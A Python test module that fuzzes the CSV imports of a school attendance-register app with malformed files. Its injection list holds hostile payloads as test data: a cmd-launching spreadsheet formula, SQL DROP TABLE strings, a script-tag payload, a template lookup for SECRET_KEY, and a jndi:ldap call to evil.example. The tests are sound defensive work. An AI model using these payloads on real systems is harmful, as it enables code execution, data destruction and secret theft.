"""Bad input: property-based tests throw malformed CSV files at every file import.

Each generated file is a valid file with exactly one thing wrong (a header, a date as
Excel writes it, an over-long cell, a cell too many, an injection-like value where a code
belongs, another encoding, random bytes). Every import must answer with ImportFailed
naming the problem (and the row, for a row's problem) and write nothing. Injection-like
text in free-text cells is data, not a problem: it is stored as typed, never run.

(add_staff and setup_school take command-line arguments, not files: nothing to fuzz.)
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from registers import codes
from registers.models import (
    AcademicYear,
    Closure,
    Form,
    HalfTerm,
    Mark,
    MarkAmendment,
    Pupil,
    School,
    SchoolDay,
)
from registers.models.pupils import YEAR_GROUPS
from registers.services.imports import CsvFile, ImportFailed
from registers.services.imports.calendar import import_calendar
from registers.services.imports.marks import import_marks
from registers.services.imports.pupils import COLUMNS as PUPIL_COLUMNS
from registers.services.imports.pupils import import_pupils
from tests.registers.factories import PupilFactory

FUZZ = settings(
    max_examples=30,
    deadline=None,
    database=None,  # no .hypothesis directory in the working tree
    # The fixtures' school is shared by the examples on purpose: every example must fail
    # and write nothing, which is exactly what the test checks after each one.
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# What spreadsheets and MIS exports write instead of YYYY-MM-DD, and impossible dates.
EXCEL_DATES = [
    "23/11/2025",
    "11/23/2025",
    "2025-11-23 00:00:00",
    "2025-11-23T00:00:00",
    "45984",
    "45984.0",
    "20251123",
    "2025/11/23",
    "23-Nov-2025",
    "23 November 2025",
    "2025-02-30",
    "2025-13-01",
    "2025-1-5",
    "#VALUE!",
]
INJECTIONS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "<script>alert(1)</script>",
    "'; DROP TABLE registers_pupil; --",
    "Robert'); DROP TABLE registers_mark;--",
    "{{ settings.SECRET_KEY }}",
    "${jndi:ldap://evil.example/a}",
]
LONG = st.sampled_from([501, 5_000, 200_000])  # the last is past csv's field size limit


@dataclass(frozen=True)
class Target:
    """One import, described so the same corruptions apply to all of them."""

    name: str
    header: tuple[str, ...]
    rows: Callable[[int], list[list[str]]]  # n valid rows
    dates: tuple[str, ...]  # columns holding dates
    texts: tuple[str, ...]  # free-text columns (any text up to a length is fine)
    # structured columns and a strategy of values that are certainly wrong there
    strict: dict[str, st.SearchStrategy[str]]
    run: Callable[[CsvFile], object]


def to_csv(header, rows) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")  # as Excel writes it
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def snapshot(school: School) -> tuple:
    """Everything an import could write."""
    counted = (Pupil, Form, Mark, MarkAmendment, HalfTerm, Closure, AcademicYear)
    days = SchoolDay.objects.for_school(school).order_by("date")
    return (
        tuple(m.objects.filter(school=school).count() for m in counted),
        tuple(days.values_list("date", "am_open", "pm_open")),
        tuple(Pupil.objects.for_school(school).order_by("pk").values_list("surname", "form_id")),
        tuple(Mark.objects.for_school(school).order_by("pk").values_list("code_id", "comment")),
    )


def refuses(target: Target, school: School, data: bytes) -> ImportFailed:
    before = snapshot(school)
    with pytest.raises(ImportFailed) as caught:
        target.run(CsvFile(f"{target.name}.csv", data))
    assert snapshot(school) == before, "a refused import wrote something"
    failure = caught.value
    assert failure.errors and all(str(e).strip() for e in failure.errors)
    return failure


def at_row(failure: ImportFailed, row: int) -> None:
    """The problem is reported on the data row it is on (1 = first row after the header)."""
    assert any(e.row == row for e in failure.errors), [str(e) for e in failure.errors]
    assert f"row {row}" in str(failure)


# -- the targets --------------------------------------------------------------------------------

WEEKDAYS = [
    dt.date(2025, 9, 3) + dt.timedelta(days=d)
    for d in range(52)
    if (dt.date(2025, 9, 3) + dt.timedelta(days=d)).weekday() < 5
]


def pupil_rows(n: int) -> list[list[str]]:
    return [
        [
            f"F{i:011d}1",
            "Okafor",
            "Chidi",
            "2016-05-01",
            "4",
            "4A",
            "2020-09-01",
            "",
            "Y",
            "N",
            "K",
            "N",
            "N",
            "N",
            "N",
        ]
        for i in range(n)
    ]


@pytest.fixture
def targets(school, pupils) -> dict[str, Target]:
    upns = [p.upn for p in pupils]

    def mark_rows(n: int) -> list[list[str]]:
        sessions = [(d, s) for d in WEEKDAYS for s in ("AM", "PM")]
        rows = []
        for i in range(n):
            day, session = sessions[i // len(upns)]
            code = "/" if session == "AM" else "\\"
            rows.append([upns[i % len(upns)], str(day), session, code, "", "on time"])
        return rows

    def term_rows(n: int) -> list[list[str]]:
        start = dt.date(2026, 9, 7)
        return [
            [
                f"Half {i}",
                str(start + dt.timedelta(weeks=i)),
                str(start + dt.timedelta(weeks=i, days=4)),
            ]
            for i in range(n)
        ]

    def closure_rows(n: int) -> list[list[str]]:
        return [[str(WEEKDAYS[i]), "ALL", "Training day"] for i in range(n)]

    valid_terms = CsvFile(
        "terms.csv", to_csv(("name", "start_date", "end_date"), term_rows(2)).encode()
    )
    not_a_year_group = st.text(max_size=4).filter(lambda v: v.strip() not in YEAR_GROUPS)
    not_a_code = st.text(max_size=3).filter(lambda v: v.strip() not in codes.BY_CODE)
    return {
        "pupils": Target(
            "pupils",
            PUPIL_COLUMNS,
            pupil_rows,
            dates=("date_of_birth", "admission_date", "leaving_date"),
            texts=("surname", "forename", "form"),
            strict={
                "upn": st.sampled_from(INJECTIONS)
                | st.text(max_size=20).filter(lambda v: not UPN.match(v.strip())),
                "year_group": st.sampled_from(INJECTIONS) | not_a_year_group,
                "sen": st.sampled_from([*INJECTIONS, "Y", "n", "EHCP"]),
                "fsm": st.sampled_from([*INJECTIONS, "yes", "1", "TRUE", "y"]),
            },
            run=lambda f: import_pupils(school=school, file=f),
        ),
        "marks": Target(
            "marks",
            ("upn", "date", "session", "code", "minutes_late", "comment"),
            mark_rows,
            dates=("date",),
            texts=("comment",),
            strict={
                "upn": st.sampled_from(INJECTIONS)
                | st.text(max_size=20).filter(lambda v: v.strip() not in upns),
                "session": st.sampled_from([*INJECTIONS, "am", "ALL", "Morning", "1"]),
                "code": st.sampled_from(INJECTIONS) | not_a_code,
                "minutes_late": st.sampled_from([*INJECTIONS, *NOT_MINUTES])
                | st.text(max_size=4).filter(not_minutes),
            },
            run=lambda f: import_marks(school=school, file=f, changed_by_name="fuzz"),
        ),
        "terms": Target(
            "terms",
            ("name", "start_date", "end_date"),
            term_rows,
            dates=("start_date", "end_date"),
            texts=("name",),
            strict={},
            run=lambda f: import_calendar(school=school, terms=f),
        ),
        "closures": Target(
            "closures",
            ("date", "session", "reason"),
            closure_rows,
            dates=("date",),
            texts=("reason",),
            strict={"session": st.sampled_from([*INJECTIONS, "all", "AM/PM", "Both"])},
            run=lambda f: import_calendar(school=school, terms=valid_terms, closures=f),
        ),
    }


TARGETS = ["pupils", "marks", "terms", "closures"]
# The longest text each free-text column takes (the model fields' max_length).
LIMITS = {"surname": 100, "forename": 100, "form": 30, "comment": 500, "name": 60, "reason": 200}
UPN = re.compile(r"^[A-Z][0-9]{11}[0-9A-Z]$")


# Minutes as spreadsheets and other scripts write them: str.isdigit() says yes to the
# superscript and the non-ASCII digits, int() fails on the first.
NOT_MINUTES = ["-5", "601", "5.5", "ten", "1e3", "²", "٣", "３", "1 0", "0x1F"]


def not_minutes(value: str) -> bool:
    """Not a whole number of minutes from 0 to 600 written in ASCII digits, nor empty."""
    value = value.strip()
    return value != "" and not (re.fullmatch(r"[0-9]+", value) and int(value) <= 600)


# -- one bad row among good ones ------------------------------------------------------------------


@st.composite
def one_bad_cell(draw, target: Target):
    rows = target.rows(draw(st.integers(min_value=1, max_value=12)))
    bad = draw(st.integers(min_value=0, max_value=len(rows) - 1))
    # Injection-like text in the free-text cells of every row: valid data.
    for row in rows:
        for column in target.texts:
            if draw(st.booleans()):
                text = draw(st.sampled_from(INJECTIONS))
                row[target.header.index(column)] = text[: LIMITS[column]]
    kinds = ["date", "long", "width"] + (["strict"] if target.strict else [])
    kind = draw(st.sampled_from(kinds))
    cells = rows[bad]
    if kind == "date":
        column = draw(st.sampled_from(target.dates))
        cells[target.header.index(column)] = draw(st.sampled_from(EXCEL_DATES))
    elif kind == "long":
        column = draw(st.sampled_from(target.texts))
        cells[target.header.index(column)] = "x" * max(draw(LONG), LIMITS[column] + 1)
    elif kind == "width":
        if draw(st.booleans()):
            cells.append(draw(st.sampled_from(INJECTIONS)))
        else:
            cells.pop()
    else:
        column = draw(st.sampled_from(sorted(target.strict)))
        cells[target.header.index(column)] = draw(target.strict[column])
    return to_csv(target.header, rows), bad + 1


@pytest.mark.parametrize("name", TARGETS)
def test_one_bad_row_is_reported_with_its_number_and_nothing_is_written(targets, school, name):
    target = targets[name]

    @FUZZ
    @given(case=one_bad_cell(target))
    def check(case):
        text, row = case
        at_row(refuses(target, school, text.encode()), row)

    check()


STRICT = [
    ("pupils", "upn"),
    ("pupils", "year_group"),
    ("pupils", "sen"),
    ("pupils", "fsm"),
    ("marks", "upn"),
    ("marks", "session"),
    ("marks", "code"),
    ("marks", "minutes_late"),
    ("closures", "session"),
]


@pytest.mark.parametrize(("name", "column"), STRICT, ids=[f"{n}-{c}" for n, c in STRICT])
def test_each_coded_column_refuses_what_it_cannot_read(targets, school, name, column):
    """Any text where a code, a flag, a number or a UPN belongs: refused on its row."""
    target = targets[name]

    @FUZZ
    @given(value=target.strict[column], row=st.integers(min_value=0, max_value=2))
    def check(value, row):
        rows = target.rows(3)
        rows[row][target.header.index(column)] = value
        at_row(refuses(target, school, to_csv(target.header, rows).encode()), row + 1)

    check()


# -- the file as a whole -------------------------------------------------------------------------


@st.composite
def bad_header(draw, header: tuple[str, ...]):
    columns = list(header)
    change = draw(st.sampled_from(["drop", "rename", "repeat", "extra", "blank", "bom-twice"]))
    index = draw(st.integers(min_value=0, max_value=len(columns) - 1))
    if change == "drop":
        columns.pop(index)
    elif change == "rename":
        columns[index] = draw(st.sampled_from(["UPN number", "Date", "code ", "DoB", "sesion"]))
        if columns[index].strip().lower() == header[index]:
            columns[index] = "unknown"
    elif change == "repeat":
        columns.append(columns[index])
    elif change == "extra":
        columns.append(draw(st.sampled_from(INJECTIONS)))
    elif change == "blank":
        columns.insert(index, "")
    else:  # a file saved twice as "CSV UTF-8": the second mark stays in the first name
        columns[0] = "\ufeff" + columns[0]
    prefix = "\ufeff" if change == "bom-twice" else ""
    return prefix + to_csv(columns, [])


@pytest.mark.parametrize("name", TARGETS)
def test_a_wrong_header_is_refused_before_any_row(targets, school, name):
    target = targets[name]

    @FUZZ
    @given(text=bad_header(target.header), rows=st.integers(min_value=0, max_value=5))
    def check(text, rows):
        body = to_csv(target.header, target.rows(rows)).split("\r\n", 1)[1]
        failure = refuses(target, school, (text + body).encode())
        assert "header" in str(failure) and all(e.row is None for e in failure.errors)

    check()


@pytest.mark.parametrize("name", TARGETS)
def test_another_encoding_or_random_bytes_are_refused(targets, school, name):
    target = targets[name]

    @FUZZ
    @given(
        encoding=st.sampled_from(["utf-16", "utf-16-le", "cp1252", "latin-1", "mac-roman"]),
        noise=st.binary(min_size=1, max_size=200),
        use_noise=st.booleans(),
    )
    def check(encoding, noise, use_noise):
        rows = target.rows(3)
        rows[1][target.header.index(target.texts[0])] = "Zoë Ñúñez"  # not ASCII
        data = to_csv(target.header, rows).encode(encoding)
        if use_noise:
            data = noise + data
        # "Zoë" is not UTF-8 in any of these, whatever the noise before it.
        assert "UTF-8" in str(refuses(target, school, data))

    check()


def test_a_byte_order_mark_and_excel_line_ends_are_fine(school):
    """Excel's "CSV UTF-8" starts with a BOM: that is a valid file, not a problem."""
    rows = pupil_rows(2)
    data = ("\ufeff" + to_csv(PUPIL_COLUMNS, rows)).encode()
    result = import_pupils(school=school, file=CsvFile("pupils.csv", data))
    assert result.created == 2


@FUZZ
@given(names=st.lists(st.sampled_from(INJECTIONS), min_size=3, max_size=3))
def test_injection_like_names_are_stored_as_typed(school, names):
    rows = pupil_rows(3)
    for row, name in zip(rows, names, strict=True):
        row[1] = name[:100]
    import_pupils(school=school, file=CsvFile("p.csv", to_csv(PUPIL_COLUMNS, rows).encode()))
    # Stored exactly as typed (and every table is still there to be read).
    stored = dict(Pupil.objects.for_school(school).values_list("upn", "surname"))
    assert [stored[row[0]] for row in rows] == [n[:100] for n in names]
    assert Mark.objects.count() == 0 and Form.objects.filter(name="4A").exists()


# -- huge files ----------------------------------------------------------------------------------

BIG = 50_000


def test_a_huge_pupils_file_with_one_bad_row(school, targets):
    rows = pupil_rows(BIG)
    rows[31_336][3] = "31/02/2016"
    failure = refuses(targets["pupils"], school, to_csv(PUPIL_COLUMNS, rows).encode())
    at_row(failure, 31_337)
    assert len(failure.errors) == 1


def test_a_huge_marks_file_with_one_bad_row(school, form, targets):
    # 50,000 marks need ~660 pupils over Autumn 1's 76 sessions.
    many = Pupil.objects.bulk_create(
        [
            PupilFactory.build(school=school, form=form, upn=f"H{n:011d}2")
            for n in range(BIG // 76 + 1)
        ]
    )
    sessions = [(day, session) for day in WEEKDAYS for session in ("AM", "PM")]
    present = {"AM": "/", "PM": "\\"}
    rows = [
        [p.upn, str(day), session, present[session], "", ""]
        for p in many
        for day, session in sessions
    ]
    rows = rows[:BIG]
    rows[44_443][3] = "=cmd|' /C calc'!A0"
    failure = refuses(targets["marks"], school, to_csv(targets["marks"].header, rows).encode())
    at_row(failure, 44_444)
    assert len(failure.errors) == 1


# -- the commands say it too -----------------------------------------------------------------------


@pytest.mark.parametrize("command", ["import_pupils", "import_marks", "import_calendar"])
def test_the_commands_turn_a_refusal_into_a_clear_error(school, pupils, tmp_path: Path, command):
    path = tmp_path / "bad.csv"
    path.write_bytes("upn;surname;forename\r\nA;B;C\r\n".encode("utf-16"))
    before = snapshot(school)
    with pytest.raises(CommandError, match="nothing was imported") as caught:
        call_command(command, "--school", school.urn, str(path))
    assert "UTF-8" in str(caught.value)
    assert snapshot(school) == before
